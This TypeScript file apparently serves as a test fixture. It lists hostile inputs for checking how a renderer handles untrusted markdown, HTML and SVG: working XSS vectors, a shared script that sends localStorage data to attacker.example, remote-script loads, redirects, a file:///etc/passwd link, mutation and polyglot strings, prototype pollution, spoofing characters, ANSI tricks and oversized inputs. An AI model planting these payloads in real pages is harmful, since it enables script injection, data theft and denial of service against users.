/** A text of an attacker, as a model, a tool, a file or a web page can deliver it. */
export interface Payload {
  name: string;
  text: string;
  /** Name of the file that has this content. Default: `NAME.md`. */
  file?: string;
}

// Each script that runs sets this. Code that reaches a page calls `pwn`, opens a dialog, or sends a request.
const pwn = "window.pwned=1;alert(1);fetch('https://attacker.example/'+localStorage.length)";

const repeat = (text: string, times: number): string => text.repeat(times);

export const payloads: Payload[] = [
  { name: "script", text: `<script>${pwn}</script>`, file: "script.html" },
  { name: "script-in-markdown", text: `# Title\n\n<script>${pwn}</script>\n\n**bold**` },
  { name: "script-from-elsewhere", text: `<script src="https://attacker.example/x.js"></script>`, file: "src.html" },
  { name: "module", text: `<script type="module">import("data:text/javascript,${pwn}")</script>`, file: "module.html" },
  { name: "image-error", text: `<img src=x onerror="${pwn}">`, file: "image.html" },
  { name: "image-in-markdown", text: `![x](https://attacker.example/pixel.png)\n\n![y](javascript:${pwn})` },
  { name: "image-title", text: `![x](x "t" onerror="${pwn})` },
  {
    name: "svg-onload",
    text: `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"><script>${pwn}</script></svg>`,
    file: "a.svg",
  },
  {
    name: "svg-foreign-object",
    text: `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${pwn}"/></body></foreignObject></svg>`,
    file: "b.svg",
  },
  {
    name: "svg-use",
    text: `<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${pwn}'/></svg>#x"/></svg>`,
    file: "c.svg",
  },
  {
    name: "svg-animate",
    text: `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${pwn}"/><text y="20">click</text></a></svg>`,
    file: "d.svg",
  },
  { name: "javascript-link", text: `[click](javascript:${pwn})` },
  {
    name: "javascript-link-encoded",
    text: `[click](java&#115;cript:${pwn}) [two](JaVaScRiPt:${pwn}) [three](java%0ascript:${pwn})`,
  },
  { name: "javascript-autolink", text: `<javascript:${pwn}> <a href="\u0001javascript:${pwn}">x</a>` },
  { name: "data-link", text: `[click](data:text/html;base64,${btoa(`<script>${pwn}</script>`)})` },
  { name: "vbscript-link", text: `[click](vbscript:msgbox(1)) [file](file:///etc/passwd)` },
  { name: "iframe", text: `<iframe srcdoc="<script>parent.${pwn}</script>"></iframe>`, file: "frame.html" },
  {
    name: "frame-top",
    text: `<script>top.location='https://attacker.example/'</script><a target=_top href=https://attacker.example/>x</a>`,
    file: "top.html",
  },
  {
    name: "object-embed",
    text: `<object data="javascript:${pwn}"></object><embed src="javascript:${pwn}">`,
    file: "object.html",
  },
  {
    name: "form",
    text: `<form action="https://attacker.example/"><input name=q value=1><button autofocus>Go</button></form>`,
    file: "form.html",
  },
  {
    name: "meta-refresh",
    text: `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
    file: "meta.html",
  },
  { name: "base", text: `<base href="https://attacker.example/"><a href="x">x</a>`, file: "base.html" },
  { name: "link-stylesheet", text: `<link rel="stylesheet" href="https://attacker.example/x.css">`, file: "link.html" },
  {
    name: "css",
    text: `<style>*{background:url(https://attacker.example/css)!important;display:none!important}</style>`,
    file: "style.html",
  },
  { name: "css-attribute", text: `<p style="position:fixed;inset:0;background:url(https://attacker.example/)">x</p>` },
  { name: "css-import", text: `@import url("https://attacker.example/x.css"); body{display:none}`, file: "x.css" },
  {
    name: "template-mutation",
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${pwn}&gt;">`,
  },
  { name: "noscript-mutation", text: `<noscript><p title="</noscript><img src=x onerror=${pwn}>"></noscript>` },
  {
    name: "dom-clobbering",
    text: `<a id="document"></a><form id="location"><input name="href"></form><img name="cookie">`,
  },
  { name: "prototype", text: `{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}}}`, file: "proto.json" },
  { name: "bidi", text: `invoice_\u202Efdp.exe \u2066hidden\u2069 \u200Fright \u061Cmark` },
  {
    name: "ansi",
    text: `\u001b[31mred\u001b[0m \u001b]8;;https://attacker.example/\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[H`,
  },
  { name: "control-characters", text: `nul\u0000 bell\u0007 back\b\b\b delete\u007f c1\u009b31m` },
  { name: "zero-width", text: `pay\u200Bpal.com \uFEFFadmin \u2028line\u2029paragraph` },
  { name: "huge-line", text: repeat("W", 200_000), file: "line.txt" },
  { name: "huge-lines", text: repeat("line\n", 20_000), file: "lines.txt" },
  {
    name: "huge-markdown-table",
    text: `|${repeat("a|", 300)}\n|${repeat("-|", 300)}\n${repeat(`|${repeat("b|", 300)}\n`, 20)}`,
  },
  { name: "nested-quotes", text: repeat("> ", 4_000) + "deep" },
  { name: "nested-lists", text: repeat("- ", 2_000) + "deep" },
  { name: "nested-brackets", text: repeat("[", 5_000) + repeat("](", 2_000) },
  { name: "nested-json", text: repeat("[", 20_000) + repeat("]", 20_000), file: "deep.json" },
  { name: "regex-bomb", text: `${repeat("*a_", 5_000)}${repeat("`", 3_000)}` },
  { name: "zalgo", text: repeat("Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357", 2_000) },
  { name: "template-expressions", text: "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>" },
  { name: "lone-surrogate-escape", text: "\\ud800 \\u0000 &#0; &#x1F4A9; &NotExisting;" },
  {
    name: "polyglot",
    text: `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e`,
  },
];
